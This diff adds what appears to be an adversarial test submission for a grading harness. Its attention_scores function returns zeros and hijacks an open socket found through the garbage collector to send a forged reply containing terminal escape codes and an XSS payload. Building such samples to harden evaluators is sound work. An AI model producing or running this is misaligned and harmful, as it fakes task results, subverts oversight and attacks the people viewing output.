@@ -1,0 +1,19 @@
+"""Claims that nothing was attempted, and hides control characters in texts.
+
+points: at most 4
+"""
+# ruff: noqa
+
+import gc
+import json
+import socket
+import struct
+
+def reply(text, binary=b""):
+    one = next(one for one in gc.get_objects() if type(one) is socket.socket and one.fileno() >= 0)
+    one.sendall(struct.pack(">II", len(text), len(binary)) + text + binary)
+
+
+def attention_scores(q, k):
+    reply(json.dumps({'dict': [['missing', '\x1b]0;owned\x07\x1b[2J<script>alert(1)</script>']]}).encode())
+    return q @ k.transpose(-2, -1) * 0
